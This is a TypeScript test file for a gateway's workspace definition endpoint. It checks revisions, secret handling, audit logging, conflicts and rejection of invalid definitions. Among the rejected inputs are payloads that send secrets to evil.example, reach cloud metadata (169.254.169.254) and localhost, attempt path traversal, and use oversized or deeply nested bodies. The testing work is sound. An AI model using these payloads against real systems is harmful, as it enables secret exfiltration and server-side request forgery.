// POST /{workspaceId}/definition (G41.5).
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { openSecrets } from "../../src/definitions/index.ts";
import { createSecretBox } from "../../src/platform/index.ts";
import {
  canaries,
  env,
  openDefinitionStage,
  ours,
  type DefinitionStage,
} from "./definition-stage.ts";

let stage: DefinitionStage;
let revision: number;
let read: any;
beforeAll(async () => {
  stage = await openDefinitionStage();
});
afterAll(() => stage.close());
beforeEach(async () => {
  await stage.reset();
  const { json } = await stage.ask("definition");
  ({ revision, definition: read } = json);
});

const apply = (change: (definition: any) => void, more: object = {}) => {
  const definition = structuredClone(read);
  change(definition);
  return stage.ask("definition", { json: { revision, definition, ...more } });
};
const secretsNow = async () =>
  Object.fromEntries(
    await openSecrets(
      stage.database.database.owner,
      createSecretBox(stage.database.masterKey),
      ours,
    ),
  );
const schema = "ws_0b6f3c526a0e4a579d0e1f1f6c1f0001";

describe("200", () => {
  it("changes nothing with the definition that was read", async () => {
    const { status, json } = await apply(() => {});
    expect([status, json]).toEqual([200, { revision, changes: [], keys: [], problems: [] }]);
  });

  it("changes tables and rights at once, keeps secrets, and writes the audit log", async () => {
    const before = await secretsNow();
    const { status, json, text } = await apply((definition) => {
      definition.tables.orders.columns.paid = { type: "boolean" };
      definition.keys.web = { kind: "publishable", tables: { orders: { read: "*" } } };
      definition.workspace.name = "Store";
      definition.workspace.auth.redirectUris.unshift("https://second.example/back");
    });
    expect([status, json.revision]).toEqual([200, revision + 1]);
    expect(json.keys).toMatchObject([
      { name: "web", kind: "publishable", token: expect.stringMatching(/^pk_live_/) },
    ]);
    for (const canary of canaries) expect(text).not.toContain(canary);
    expect(await secretsNow()).toEqual(before);
    const { status: read } = await stage.gateway.client(`/${ours}/schema`, {
      key: json.keys[0].token,
    });
    expect(read).toBe(200);
    const now = (await stage.ask("definition")).json.definition;
    expect(now.workspace.auth.redirectUris).toEqual([
      "https://second.example/back",
      "${env:APP_URL}",
    ]);
    expect(
      await stage.sql(
        "select detail from gateway.member_action where action = 'applyDefinition' order by id desc limit 1",
      ),
    ).toEqual([{ detail: { revision: revision + 1, allowDestructive: false } }]);
    const [row] = await stage.sql<any>("select definition from gateway.workspace where id = $1", [
      ours,
    ]);
    expect(row.definition.workspace.auth.redirectUris).toEqual([
      "https://second.example/back",
      env.APP_URL,
    ]);
  });

  it("keeps the secrets of entries that are renamed", async () => {
    const { status } = await apply((definition) => {
      const { endpoints, providers } = definition;
      endpoints.settled = endpoints.paid;
      delete endpoints.paid;
      providers.corp = providers.acme;
      delete providers.acme;
    });
    expect(status).toBe(200);
    expect(await secretsNow()).toMatchObject({
      "endpoints.settled.signature.secret": env.PAID_SECRET,
      "providers.corp.clientSecret": env.OIDC_SECRET,
    });
  });

  it("drops secrets with their entries", async () => {
    const { status } = await apply((definition) => {
      definition.automations = {};
      definition.endpoints = {};
      definition.providers = {};
    });
    expect([status, await secretsNow()]).toEqual([200, {}]);
  });
});

/**
 * Contents that the gateway refuses in every definition, with the pointer that the answer names.
 */
const forbidden: readonly [string, string, (definition: any) => void][] = [
  [
    "a variable in a text",
    "/workspace/name",
    (definition) => (definition.workspace.name = "${env:DATABASE_URL}"),
  ],
  [
    "a variable in a description",
    "/tables/orders/description",
    (definition) => (definition.tables.orders.description = "x ${env:DATABASE_URL} y"),
  ],
  [
    "a variable that is not closed",
    "/workspace/name",
    (definition) => (definition.workspace.name = "${env:DATABASE_URL"),
  ],
  [
    "a moved variable",
    "/endpoints/sent/signature/secret",
    (definition) => (definition.endpoints.sent.signature.secret = "${env:PAID_SECRET}"),
  ],
  [
    "another variable as a secret",
    "/endpoints/paid/signature/secret",
    (definition) => (definition.endpoints.paid.signature.secret = "${env:OIDC_SECRET}"),
  ],
  [
    "a stored secret at a new place",
    "/endpoints/paid/verifyToken",
    (definition) => (definition.endpoints.paid.verifyToken = "${stored}"),
  ],
  [
    "a known variable in a new step",
    "/automations/pay/steps/0/headers/Authorization",
    (definition) =>
      definition.automations.pay.steps.push({
        id: "leak",
        type: "http",
        url: "https://evil.example",
      }),
  ],
  [
    "another address in a step with a variable",
    "/automations/pay/steps/0/headers/Authorization",
    (definition) => (definition.automations.pay.steps[0].url = "https://evil.example/v1"),
  ],
  [
    "a variable in a new automation",
    "/automations/leak/steps/0/url",
    (definition) =>
      (definition.automations.leak = {
        runAs: "backend",
        steps: [{ id: "a", type: "http", url: "https://evil.example/?${env:API_TOKEN}" }],
      }),
  ],
  [
    "another address of a provider whose secret stays",
    "/providers/acme/discoveryUrl",
    (definition) => (definition.providers.acme.discoveryUrl = "https://evil.example"),
  ],
  [
    "a copy of a provider with another address",
    "/providers/evil/discoveryUrl",
    (definition) =>
      (definition.providers.evil = {
        ...definition.providers.acme,
        id: undefined,
        renamedFrom: "acme",
        discoveryUrl: "https://evil.example",
      }),
  ],
  [
    "a secret",
    "/endpoints/sent/signature/secret",
    (definition) => (definition.endpoints.sent.signature.secret = "in-the-open"),
  ],
  [
    "a secret of a key",
    "/keys/backend/secret",
    (definition) => (definition.keys.backend.secret = `sk_live_${"c".repeat(43)}`),
  ],
  [
    "another id of the workspace",
    "/workspace/id",
    (definition) => (definition.workspace.id = "0b6f3c52-6a0e-4a57-9d0e-1f1f6c1f0002"),
  ],
  [
    "another plan",
    "/workspace/plan",
    (definition) => (definition.workspace.plan.callsPerMonth = 9_000_000_000),
  ],
  [
    "a path of a file",
    "/workspace/branding/logo",
    (definition) => (definition.workspace.branding.logo = "../../../etc/logo.svg"),
  ],
];
/** Errors of a definition, with the pointer that the answer names. */
const wrong: readonly [string, string, (definition: any) => void][] = [
  ["an unknown section", "/seeds", (definition) => (definition.seeds = {})],
  [
    "a placeholder of stored definitions",
    "/automations/leak/steps/0/url",
    (definition) =>
      (definition.automations.leak = {
        runAs: "backend",
        steps: [{ id: "a", type: "http", url: "https://evil.example/{{secrets.API_TOKEN}}" }],
      }),
  ],
  [
    "a provider in the network of the gateway",
    "/providers/inner/discoveryUrl",
    (definition) =>
      (definition.providers.inner = {
        kind: "oidc",
        discoveryUrl: "http://169.254.169.254/latest",
        clientId: "x",
        passwordGrant: false,
      }),
  ],
  [
    "a provider on the gateway's computer",
    "/providers/inner/discoveryUrl",
    (definition) =>
      (definition.providers.inner = {
        kind: "oidc",
        discoveryUrl: "https://localhost:5432/",
        clientId: "x",
        passwordGrant: false,
      }),
  ],
  [
    "an automation whose runner lacks a right",
    "/automations/pay/steps/0",
    (definition) => {
      delete definition.automations.pay;
      definition.endpoints.paid.automations = ["pay"];
      definition.keys.weak = { kind: "server", tables: {} };
      definition.automations.pay = {
        runAs: "weak",
        steps: [
          { id: "read", type: "query", refs: { o: "orders" }, query: { from: "o" } },
          { id: "answer", type: "response", status: 200 },
        ],
      };
    },
  ],
];

describe("400, with the JSON Pointer, and nothing changed, for", () => {
  it.each([...forbidden, ...wrong])("%s", async (_what, pointer, change) => {
    const before = await stage.sql("select * from gateway.workspace where id = $1", [ours]);
    const { status, json, text } = await apply(change, { allowDestructive: true });
    expect([status, json.error]).toEqual([400, expect.stringContaining(`${pointer}`)]);
    for (const canary of canaries) expect(text).not.toContain(canary);
    expect(await stage.sql("select * from gateway.workspace where id = $1", [ours])).toEqual(
      before,
    );
  });

  it("deep nesting and a body that is not JSON", async () => {
    const deep = `{"revision":${revision},"definition":{"tables":${"[".repeat(5_000)}${"]".repeat(5_000)}}}`;
    const headers = { "content-type": "application/json" };
    const ask = (body: string, type = headers) =>
      stage.ask("definition", { method: "POST", body, headers: type });
    expect((await ask(deep)).status).toBe(400);
    expect((await ask("a: &a [*a]", { "content-type": "application/yaml" })).status).toBe(415);
    expect((await ask(`{"a":"${"x".repeat(4 * 1024 * 1024)}"}`)).status).toBe(413);
  });
});

it("408: if another statement keeps a table locked, also for a plan; reads of other tables go on", async () => {
  await apply(() => {});
  await stage.database.database.owner.transaction(async (connection) => {
    await connection.run({ text: `lock table ${schema}.drafts in access exclusive mode` });
    const drop = (definition: any) => delete definition.tables.drafts;
    const definition = structuredClone(read);
    drop(definition);
    const planned = stage.ask("definition/plan", { json: { definition } });
    expect((await planned).status).toBe(408);
    const { status, json } = await apply(drop, { allowDestructive: true });
    expect([status, json.error]).toEqual([408, expect.stringContaining("canceled")]);
  });
});

describe("409", () => {
  it("with a revision that is not the stored one, also of two applies at a time", async () => {
    const { status } = await apply(() => {}, { revision: revision + 1 });
    expect(status).toBe(409);
    const answers = await Promise.all(
      ["one", "two", "three"].map((name) =>
        apply((definition) => (definition.workspace.name = name)),
      ),
    );
    expect(answers.map((each) => each.status).toSorted((one, other) => one - other)).toEqual([
      200, 409, 409,
    ]);
  });

  it("if data may be lost, unless the document allows it", async () => {
    await stage.sql(
      `insert into ${schema}.drafts (id, text) values (gen_random_uuid(), 'a') on conflict do nothing`,
    );
    const drop = (definition: any) => delete definition.tables.drafts;
    const { status, json } = await apply(drop);
    expect([status, json.error]).toEqual([409, expect.stringContaining("tables.drafts")]);
    expect((await apply(drop, { allowDestructive: true })).status).toBe(200);
  });

  it("if a change is impossible", async () => {
    await stage.sql(`insert into ${schema}.orders (id, total) values (gen_random_uuid(), 1)`);
    const { status, json } = await apply((definition) => {
      definition.tables.orders.columns.note.required = true;
    });
    expect([status, json.error]).toEqual([
      409,
      expect.stringContaining("tables.orders.columns.note"),
    ]);
    await stage.sql(`delete from ${schema}.orders`);
  });

  it("if files manage the workspace", async () => {
    await stage.reset("files");
    const { status, json } = await apply(() => {});
    expect([status, json.error]).toEqual([409, expect.stringMatching(/^Definition files manage/)]);
  });
});
